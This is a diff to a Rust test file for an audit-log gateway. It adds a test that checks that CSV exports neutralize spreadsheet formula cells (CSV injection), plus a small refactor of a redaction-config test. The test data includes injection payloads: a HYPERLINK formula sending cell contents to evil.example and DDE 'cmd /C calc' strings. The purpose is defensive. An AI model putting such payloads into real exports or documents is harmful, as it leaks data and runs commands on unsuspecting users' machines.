@@ -169,6 +169,140 @@ fn jsonl_and_csv_hold_exactly_the_stored_events() {
     assert_eq!(&hostile[8], HOSTILE);
 }
 
+/// Texts a spreadsheet would evaluate as a formula (OWASP "CSV Injection"): the reported
+/// failed login's `user` and `reason`, then a cell starting with each other trigger, a
+/// full-width `=`, a space before `=` (live where an import trims spaces), and a leading
+/// `'` (doubled, so the documented reverse, "drop one leading `'`", gives it back).
+const FORMULA_TEXTS: [&str; 11] = [
+    r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#,
+    "+cmd|'/C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\u{FF1D}1+1",
+    "\u{FF20}SUM(A1)",
+    " =1+1",
+    "\u{FEFF}=1+1",
+    "'=1+1",
+];
+
+/// True when a spreadsheet could read `cell` as a formula. Written here from the OWASP
+/// rule, independently of the gateway: the first character is a trigger (tab, CR
+/// included), or the first one after whitespace, control and zero-width characters is
+/// `=`, `+`, `-`, `@` or their full-width forms.
+fn is_live_formula(cell: &str) -> bool {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        return true;
+    }
+    let invisible =
+        |c: char| c.is_whitespace() || c.is_control() || matches!(c, '\u{200B}'..='\u{200F}' | '\u{FEFF}');
+    cell.chars().find(|&c| !invisible(c)).is_some_and(|c| {
+        matches!(c, '=' | '+' | '-' | '@' | '\u{FF1D}' | '\u{FF0B}' | '\u{FF0D}' | '\u{FF20}')
+    })
+}
+
+/// A stored field as the CSV writes it: strings as they are, other values as JSON.
+fn field_text(value: &Value) -> String {
+    match value {
+        Value::Null => String::new(),
+        Value::String(s) => s.clone(),
+        other => other.to_string(),
+    }
+}
+
+#[test]
+fn csv_cells_a_spreadsheet_would_evaluate_are_neutralized() {
+    let gw = Gateway::start_default();
+    let [hyperlink, dde, ..] = FORMULA_TEXTS;
+    // The reported attack: a failed login whose user and reason are formulas.
+    let mut events =
+        vec![json!({"time": "2026-11-23T11:00:00Z", "action": "user.login", "outcome": "failure",
+        "user": hyperlink, "ip": "198.51.100.66", "reason": dde})];
+    // Each trigger in the columns a client writes, beside a JSON column holding one.
+    for (i, text) in FORMULA_TEXTS.iter().enumerate().skip(2) {
+        events.push(json!({"time": format!("2026-11-23T11:01:{i:02}Z"), "action": "user.login",
+            "outcome": "failure", "user": text, "reason": text, "resource_type": "user", "resource_id": text,
+            "user_agent": text, "details": {"note": text, "n": -1}}));
+    }
+    // Ordinary cells, with the characters in the middle (never changed).
+    events.push(json!({"id": "ordinary-1", "time": "2026-11-23T11:02:00Z", "action": "user.login",
+        "outcome": "success", "user": "alice@example.com", "ip": "2001:db8::17", "reason": "a-b=c+d",
+        "resource_id": "x@y", "session_id": " leading space"}));
+    let (status, body) = gw.post_bulk(INGEST_KEY, &ndjson(&events));
+    assert_eq!(status, 200, "{body}");
+    assert_eq!(body["accepted"], events.len(), "{body}");
+    let stored = gw.query_all(&format!("source={INGEST_NAME}"), 1000);
+    assert_eq!(stored.len(), events.len());
+    // Stored as sent: the test puts the attacker's exact text through the export.
+    assert_eq!((stored[0]["user"].as_str(), stored[0]["reason"].as_str()), (Some(hyperlink), Some(dde)));
+    for (record, text) in stored[1..].iter().zip(FORMULA_TEXTS.iter().skip(2)) {
+        for column in ["user", "reason", "resource_id", "user_agent"] {
+            assert_eq!(record[column].as_str(), Some(*text), "{column} of {record}");
+        }
+    }
+
+    let query = format!("source={INGEST_NAME}&format=csv");
+    let out = ok_export(&gw, &query);
+    let mut reader = csv::Reader::from_reader(out.body.as_bytes());
+    let header: Vec<String> = reader.headers().expect("header row").iter().map(str::to_string).collect();
+    assert_eq!(header, CSV_COLUMNS);
+    let rows: Vec<csv::StringRecord> = reader.records().map(|r| r.expect("a CSV row")).collect();
+    assert_eq!(rows.len(), stored.len());
+    let (mut neutralized, mut ordinary) = (0, 0);
+    for (row, record) in rows.iter().zip(&stored) {
+        assert_eq!(row.len(), CSV_COLUMNS.len());
+        for (column, cell) in CSV_COLUMNS.iter().zip(row.iter()) {
+            let text = field_text(&record[*column]);
+            assert!(!is_live_formula(cell), "seq {}: {column} is a live formula: {cell:?}", record["seq"]);
+            if FORMULA_TEXTS.contains(&text.as_str()) {
+                // One `'` in front of the stored text, nothing else changed or lost.
+                assert_eq!(cell, format!("'{text}"), "seq {}: {column}", record["seq"]);
+                assert_eq!(cell.strip_prefix('\''), Some(text.as_str()));
+                neutralized += 1;
+            } else {
+                assert_eq!(
+                    cell, text,
+                    "seq {}: {column} is not a formula and must be as stored",
+                    record["seq"]
+                );
+                ordinary += 1;
+            }
+        }
+    }
+    assert_eq!(neutralized, 2 + (FORMULA_TEXTS.len() - 2) * 4, "every planted formula was exported");
+    assert!(ordinary > 0);
+    // JSON columns stay JSON (a formula inside one is not at the cell's start).
+    let details: Value = serde_json::from_str(&rows[1][16]).expect("details JSON");
+    assert_eq!(details, stored[1]["details"]);
+    let last = rows.last().expect("the ordinary row");
+    assert_eq!((&last[8], &last[15], &last[14]), ("alice@example.com", "a-b=c+d", "x@y"));
+
+    // `auditgate export` writes the same neutralized bytes.
+    let dir = tempfile::tempdir().expect("tempdir");
+    let file = dir.path().join("formulas.csv");
+    let url = gw.base_url();
+    let run = run_cli(
+        [
+            "export",
+            "--url",
+            url.as_str(),
+            "--key",
+            AUDITOR_KEY,
+            "--format",
+            "csv",
+            "--source",
+            INGEST_NAME,
+            "-o",
+        ]
+        .iter()
+        .map(|s| s.to_string())
+        .chain([file.display().to_string()]),
+    );
+    assert_eq!(run.code, Some(0), "{run:?}");
+    assert_eq!(std::fs::read_to_string(&file).expect("the CLI wrote the file"), out.body);
+}
+
 /// The class, activity and required attributes of one OCSF event of a stored record.
 fn check_ocsf_event(e: &Value, record: &Value) {
     let action = record["action"].as_str().unwrap_or_default();
@@ -499,11 +633,7 @@ fn the_cli_downloads_into_the_file_and_reports_refusals() {
 #[test]
 fn a_looked_up_pseudonym_finds_the_pseudonymized_event() {
     // redact-secrets pseudonymizes whole e-mail addresses.
-    let config = default_config().replace(
-        "\"set-cookie\", \"private_key\", \"card_number\", \"pan\", \"cvv\", \"ssn\",\n]\n",
-        "\"set-cookie\", \"private_key\", \"card_number\", \"pan\", \"cvv\", \"ssn\",\n]\ndetectors = { email = \"pseudonymize\" }\n",
-    );
-    assert!(config.contains("email = \"pseudonymize\""), "policy.toml's redact-secrets fields changed");
+    let config = with_redaction_config(&default_config(), "detectors = { email = \"pseudonymize\" }");
     let gw = Gateway::start(&config);
     let email = "alice.lookup@example.com";
     let seq = gw.ingest_one(&json!({"action": "user.login", "outcome": "success", "user": email}));
